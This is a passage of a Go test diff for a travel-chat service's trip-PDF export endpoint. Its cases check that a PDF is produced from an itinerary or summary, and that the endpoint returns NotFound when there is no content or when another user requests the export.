+	})
+
+	t.Run("prints the summary and itinerary of the conversation", WithFixture(func(t *testing.T, f *Fixture) {
+		itineraries := memoryItineraries{}
+		srv := NewServer(model.New(ConnectMongo()), nil, WithItineraries(itineraries), WithBranding(pdf.Branding{Name: "Nordic Trails"}))
+		c := f.CreateConversation(func(c *model.Conversation) { c.Title = "Weekend in Lisbon" })
+
+		_, err := srv.ExportTripPDF(ctx, &pb.ExportTripPDFRequest{ConversationId: c.ID.Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error without a summary or itinerary, got %v", err)
+		}
+
+		start, _ := itinerary.ParseLocal("2025-10-18T21:00", "Europe/Lisbon")
+		_, _ = itineraries.AddItem(ctx, c.ID, c.UserID, itinerary.Item{ID: primitive.NewObjectID(), Kind: itinerary.KindActivity, Title: "Fado show", StartAt: start.UTC(), Timezone: "Europe/Lisbon"})
+
+		out, err := srv.ExportTripPDF(ctx, &pb.ExportTripPDFRequest{ConversationId: c.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetFilename() != "weekend-in-lisbon.pdf" || out.GetContentType() != "application/pdf" || !bytes.HasPrefix(out.GetContent(), []byte("%PDF-")) {
+			t.Errorf("exported %s (%s): %q", out.GetFilename(), out.GetContentType(), out.GetContent()[:10])
+		}
+
+		_, err = srv.ExportTripPDF(auth.WithUserID(ctx, "mallory"), &pb.ExportTripPDFRequest{ConversationId: c.ID.Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error for another user, got %v", err)
+		}
+	}))
+
+	t.Run("summarizes open conversations", WithFixture(func(t *testing.T, f *Fixture) {
+		srv := NewServer(model.New(ConnectMongo()), nil, WithSummarizer(staticSummarizer("You planned a weekend in Lisbon.")))
+		c := f.CreateConversation()
+
+		out, err := srv.ExportTripPDF(ctx, &pb.ExportTripPDFRequest{ConversationId: c.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if !bytes.HasPrefix(out.GetContent(), []byte("%PDF-")) {
+			t.Errorf("exported %q", out.GetContent()[:10])
+		}
+	}))
+}